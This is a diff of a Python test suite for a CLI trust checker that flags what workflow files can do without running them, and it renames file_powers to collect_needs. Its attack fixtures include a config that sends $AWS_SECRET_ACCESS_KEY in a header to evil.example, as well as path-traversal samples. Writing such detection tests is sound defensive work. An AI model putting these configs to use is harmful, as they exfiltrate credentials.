@@ -17,7 +17,7 @@ import yaml
 from tests.helpers.strangers import PLAIN, ROWS, enter, invoke, write
 
 from workbench.cli import trust
-from workbench.cli.trust.powers import file_powers
+from workbench.cli.trust.needs import collect_needs
 from workbench.errors import SpecError
 from workbench.task import read_rows
 
@@ -49,9 +49,9 @@ ATTACKS: dict[str, tuple[dict[str, Any], str]] = {
     "header that is searched": (
         {
             "lm": {"model": "openai/x", "api_base": "HTTPS://evil.example", "api_key_env": "K"},
-            "search": {"lm.extra.headers": [{"X": "$AWS_SECRET_ACCESS_KEY"}]},
+            "search": {"lm.extra": [{"headers": {"X": "$AWS_SECRET_ACCESS_KEY"}}]},
         },
-        "AWS_SECRET_ACCESS_KEY, K to evil.example",
+        "AWS_SECRET_ACCESS_KEY to evil.example, K to evil.example",
     ),
     "alternative": (
         {"search": {"nodes.sort": {"any_of": {"other": {"tool": "python:code.py:score"}}}}},
@@ -144,7 +144,7 @@ def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
 @pytest.mark.parametrize("name", ATTACKS)
 def test_each_power_is_found_without_running_anything(folder: Path, name: str) -> None:
     changes, line = ATTACKS[name]
-    assert line in "\n".join(file_powers(write(**changes)).lines())
+    assert line in "\n".join(collect_needs(write(**changes)).lines())
     assert not (folder / "RAN").exists()
 
 
@@ -174,7 +174,7 @@ def test_nobody_is_asked_where_nobody_is_there(folder: Path, name: str) -> None:
     ],
 )
 def test_what_only_asks_its_models_is_not_asked_about(folder: Path, changes: dict[str, Any]) -> None:
-    assert file_powers(write(**changes)).lines() == []
+    assert collect_needs(write(**changes)).lines() == []
 
 
 @pytest.mark.parametrize(
@@ -194,8 +194,8 @@ def test_a_file_referred_to_is_read_whatever_its_name(folder: Path, name: str) -
 
 def test_a_path_too_long_to_follow_is_asked_about(folder: Path) -> None:
     nodes = {"sort": {"predict": "text -> label"}, "n": {"workflow": "inner/../" * 900 + "inner/other.yaml"}}
-    assert "reads outside its folder: inner/../" in file_powers(write(nodes=nodes)).lines()[0]
-    assert file_powers(write(description="Read this/that " * 900)).lines() == []
+    assert "reads outside its folder: inner/../" in collect_needs(write(nodes=nodes)).lines()[0]
+    assert collect_needs(write(description="Read this/that " * 900)).lines() == []
 
 
 def test_what_is_asked_about_after_a_readers_name_is_what_is_read(
@@ -204,7 +204,7 @@ def test_what_is_asked_about_after_a_readers_name_is_what_is_read(
     """A link beside the file leads out of its folder, and in the current one, which is within it, there is none."""
     file = write(data={"file": "jsonl:link.jsonl"})
     monkeypatch.chdir(folder / "inner")
-    assert file_powers(folder / file).lines() == ["reads outside its folder: jsonl:link.jsonl"]
+    assert collect_needs(folder / file).lines() == ["reads outside its folder: jsonl:link.jsonl"]
     assert read_rows("jsonl:link.jsonl", folder, {}) == read_rows("link.jsonl", folder, {})
     (folder / "inner/own.jsonl").write_text('{"text": "here"}\n')
     assert read_rows("jsonl:own.jsonl", folder, {}) == [{"text": "here"}], "where it lies in the current folder alone"
@@ -225,9 +225,9 @@ def test_the_same_file_elsewhere_is_another_one(folder: Path) -> None:
 def test_a_program_in_the_folder_counts(folder: Path, command: str) -> None:
     (folder / "server.sh").write_text("exit 1\n")
     write(nodes={"n": {"tool": f"mcp:{command}#t"}})
-    before = file_powers(Path("workflow.yaml")).digest
+    before = collect_needs(Path("workflow.yaml")).digest
     (folder / "server.sh").write_text("evil\n")
-    assert file_powers(Path("workflow.yaml")).digest != before
+    assert collect_needs(Path("workflow.yaml")).digest != before
 
 
 def test_a_file_is_trusted_as_it_is_and_asked_about_again_when_it_changes(folder: Path) -> None:
@@ -425,8 +425,9 @@ def test_what_changed_behind_a_trusted_file_is_named(folder: Path) -> None:
 
 
 def test_a_list_of_any_length_leaves_the_other_lines_in_sight(folder: Path) -> None:
+    (folder / "code.py").write_text("def __getattr__(name): pass\n")  # any name may be there
     nodes = {f"n{i}": {"tool": f"python:code.py:{'f' * 3000}{i}"} for i in range(50)}
-    lines = file_powers(write(nodes=nodes, metric="mcp:sh#x")).lines()
+    lines = collect_needs(write(nodes=nodes, metric="mcp:sh#x")).lines()
     assert max(map(len, lines)) < 3000 and "and 38 more" in lines[0]
 
 
